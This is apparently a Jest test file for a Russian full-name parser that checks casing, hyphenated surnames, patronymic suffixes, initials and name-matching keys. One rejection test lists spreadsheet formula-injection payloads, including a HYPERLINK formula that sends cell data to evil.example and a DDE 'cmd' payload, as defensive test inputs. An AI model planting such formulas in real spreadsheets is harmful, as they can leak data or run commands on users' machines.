import { looksLikeSurname, parseFullName } from '../../src/language/fullName';
import { initials, sameName, shortName, signatureName } from '../../src/language/nameForms';

const NBSP = '\u00a0';

describe('parseFullName', () => {
  test.each([
    ['Иванова Мария Петровна', 'Иванова', 'Мария', 'Петровна'],
    ['ГАЛИЕВ ТИМУР РУСТАМОВИЧ', 'Галиев', 'Тимур', 'Рустамович'],
    ['сафина гульназ рафисовна', 'Сафина', 'Гульназ', 'Рафисовна'],
    ['  Шевчук   Дарья  Ильинична ', 'Шевчук', 'Дарья', 'Ильинична'],
    ['Никитин\tЕгор\u00a0Сергеевич\u200b', 'Никитин', 'Егор', 'Сергеевич'],
    ['Cоловьёва Aнна Cергеевна', 'Соловьёва', 'Анна', 'Сергеевна'],
    ['Ветрова Мия 🌸', 'Ветрова', 'Мия', ''],
    ['Ветрова👩‍🎨 Мия', 'Ветрова', 'Мия', ''],
    ['римская-корсакова АННА-МАРИЯ', 'Римская-Корсакова', 'Анна-Мария', ''],
    ['Римская – Корсакова Анна', 'Римская-Корсакова', 'Анна', ''],
    ['Долгих Сергей-Александр Петрович', 'Долгих', 'Сергей-Александр', 'Петрович'],
    ['фон Дервиз Павел Григорьевич', 'фон Дервиз', 'Павел', 'Григорьевич'],
    ['О’КОННОР ШОН', 'О’Коннор', 'Шон', ''],
    ["Лук'янова Анна", "Лук'янова", 'Анна', ''],
    ['МакГрегор Иван', 'МакГрегор', 'Иван', ''],
    ['Иванов, Иван Иванович', 'Иванов', 'Иван', 'Иванович'],
    ['Мария Петровна Иванова', 'Иванова', 'Мария', 'Петровна'],
    ['Арина Соколова', 'Соколова', 'Арина', ''],
    ['Ким Роман', 'Ким', 'Роман', ''],
    ['Иванова Ева', 'Иванова', 'Ева', ''],
    ['Абрамович Роман Аркадьевич', 'Абрамович', 'Роман', 'Аркадьевич'],
  ])('reads %j', (text, last, first, middle) => {
    const name = parseFullName(text);
    expect(name).toMatchObject({ last, first, middle, suffix: '', initialsOnly: false });
    expect(name.problem).toBeUndefined();
    expect(name.text).toBe([last, first, middle].filter(Boolean).join(' '));
  });

  test.each([
    ['Мамедов Руслан Эльчин оглы', 'Эльчин', 'оглы'],
    ['Мамедова Севда Рауф КЫЗЫ', 'Рауф', 'кызы'],
    ['Ким Алексей Оглы', '', 'оглы'],
  ])('keeps the suffix of %j apart from the patronymic', (text, middle, suffix) => {
    expect(parseFullName(text)).toMatchObject({ middle, suffix });
  });

  test.each([
    ['Сидоров П.', 'Сидоров П.'],
    ['Шевчук И.П.', 'Шевчук И.П.'],
    ['И.П. Шевчук', 'Шевчук И.П.'],
    ['Лебедева О. Н.', 'Лебедева О.Н.'],
    ['Иванов И И', 'Иванов И.И.'],
    ['Долгих С.-А.П.', 'Долгих С.-А.П.'],
  ])('marks %j as initials only', (text, read) => {
    const name = parseFullName(text);
    expect(name.initialsOnly).toBe(true);
    expect(name.text).toBe(read);
    expect(parseFullName(read).text).toBe(read);
  });

  test.each([
    '=HYPERLINK("http://evil.example/?d="&C2;"нажми")',
    "+cmd|' /C calc'!A0",
    '=IMPORTRANGE("1AbC";"A1:Z")',
    '@SUM(A1:A9)',
    '{{ДИРЕКТОР}}',
    '<b>Иван Иванов</b>',
    'мама',
    'тест тест тест',
    '-',
    '🌸',
    '',
    'Иванов Иван 2',
    'Иванов Иван мама',
    'И.П.',
    'Иванов '.repeat(40),
    'Иванов\u0301'.repeat(20_000),
  ])('does not take %j for a name and does not repeat it', (text) => {
    const name = parseFullName(text);
    expect(name.problem).toMatch(/^Не похоже на ФИО/);
    expect(name.text).toBe('');
  });

  test('asks for the first name when there is only one word', () => {
    expect(parseFullName('Сидорова')).toMatchObject({ last: 'Сидорова', problem: expect.stringMatching(/одно слово/) });
  });

  test('is the same when read twice', () => {
    for (const text of ['ИВАНОВ ИВАН ИВАНОВИЧ', 'фон Дервиз Павел', 'мамедов руслан эльчин оглы', 'Де ла Крус Мария']) {
      expect(parseFullName(parseFullName(text).text)).toEqual(parseFullName(text));
    }
  });

  test('knows surnames by endings that no first name has', () => {
    expect(['Соколова', 'Петров', 'Щаранский', 'Яковенко'].every(looksLikeSurname)).toBe(true);
    expect(['Ева', 'Лев', 'Яков', 'Арина', 'Константин'].some(looksLikeSurname)).toBe(false);
  });
});

describe('short forms of a name', () => {
  test.each([
    ['Иванова Мария Петровна', `Иванова${NBSP}М.П.`, `М.П.${NBSP}Иванова`],
    ['Ким Роман', `Ким${NBSP}Р.`, `Р.${NBSP}Ким`],
    ['Долгих Сергей-Александр Петрович', `Долгих${NBSP}С.-А.П.`, `С.-А.П.${NBSP}Долгих`],
    ['Мамедов Руслан Эльчин оглы', `Мамедов${NBSP}Р.Э.${NBSP}оглы`, `Р.Э.${NBSP}оглы${NBSP}Мамедов`],
    ['Шевчук И.П.', `Шевчук${NBSP}И.П.`, `И.П.${NBSP}Шевчук`],
    ['Сидорова', 'Сидорова', 'Сидорова'],
  ])('%s', (text, inText, inSignature) => {
    expect(shortName(parseFullName(text))).toBe(inText);
    expect(signatureName(parseFullName(text))).toBe(inSignature);
  });

  test('put a gap between the initials where the school wants one', () => {
    expect(initials(parseFullName('Иванова Мария Петровна'), NBSP)).toBe(`М.${NBSP}П.`);
  });
});

describe('sameName', () => {
  test.each([
    ['Зайцев Пётр Ильич', 'зайцев  петр ильич'],
    ['Зайцев Пётр Ильич', 'Пётр Ильич Зайцев'],
    ['Римская-Корсакова Анна', 'РИМСКАЯ – КОРСАКОВА\u00a0Анна'],
  ])('%j and %j are one key', (one, other) => {
    expect(sameName(one)).toBe(sameName(other));
  });

  test('different patronymics are different keys', () => {
    expect(sameName('Иванов Иван Иванович')).not.toBe(sameName('Иванов Иван Ильич'));
  });
});
